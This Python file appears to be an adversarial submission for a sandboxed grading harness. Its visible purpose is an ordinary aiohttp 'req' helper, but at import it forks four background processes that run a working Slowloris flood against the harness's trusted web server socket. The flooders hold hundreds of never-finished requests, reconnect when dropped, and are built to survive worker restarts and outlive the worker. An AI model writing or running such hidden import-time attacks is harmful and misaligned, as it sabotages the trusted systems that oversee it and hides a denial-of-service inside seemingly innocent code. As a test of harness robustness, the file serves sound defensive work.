# ruff: noqa
"""Slowloris on the trusted web: flooders forked at import hold hundreds of unfinished requests.

The flooders find the trusted web's Unix socket next to the submission's copy
(runs/<slug>/trusted/web/http.sock), open as many connections as their fd limit
allows, send a request line and 30 headers of 4000 bytes at once, then trickle
one more header every half second and never finish the head; a connection the
server closes is opened again. req itself is the reference solution.
"""

import asyncio
import os
import socket
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import aiohttp

RESPONSE_TYPES = ("json", "text")
FLOODERS = 4
CONNECTIONS = 200  # per flooder (RLIMIT_NOFILE is 256 in the sandbox)
PAD = b"x" * 4000


def _socket_path() -> str:
    return str(Path(__file__).resolve().parent.parent / "trusted" / "web" / "http.sock")


def _flood(path: str) -> None:
    head = (b"GET /slow HTTP/1.1\r\nHost: www.gosuslugi.ru\r\n"
            + b"".join(b"X-Pad-%d: %s\r\n" % (n, PAD) for n in range(30)))
    conns: list[Any] = [None] * CONNECTIONS
    sent = [0] * CONNECTIONS
    while True:
        for k in range(CONNECTIONS):
            s = conns[k]
            try:
                if s is None:
                    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    s.settimeout(1)
                    s.connect(path)
                    s.sendall(head)
                    conns[k], sent[k] = s, 30
                else:
                    s.sendall(b"X-More-%d: %s\r\n" % (sent[k], PAD))
                    sent[k] += 1
            except OSError:
                if s is not None:
                    s.close()
                conns[k] = None
        time.sleep(0.5)


def _start_flooders() -> None:
    marker = Path(__file__).resolve().parent / ".flooding"
    try:
        os.close(os.open(marker, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    except OSError:
        return  # a restarted worker: the flooders are still at it
    for _ in range(FLOODERS):
        if os.fork() == 0:
            try:
                os.closerange(3, 4096)  # nothing of the worker's: its channel closes with it
                _flood(_socket_path())
            finally:
                os._exit(0)


_start_flooders()


async def req(
    url: str,
    params: Mapping[str, str] | None = None,
    headers: Mapping[str, str] | None = None,
    response_type: str = "json",
) -> Any:
    if response_type not in RESPONSE_TYPES:
        raise ValueError(f"response_type must be one of {RESPONSE_TYPES}, not {response_type!r}")
    async with aiohttp.ClientSession() as session:
        async with session.get(url, params=params, headers=headers) as response:
            response.raise_for_status()
            if response_type == "json":
                return await response.json()
            return await response.text()
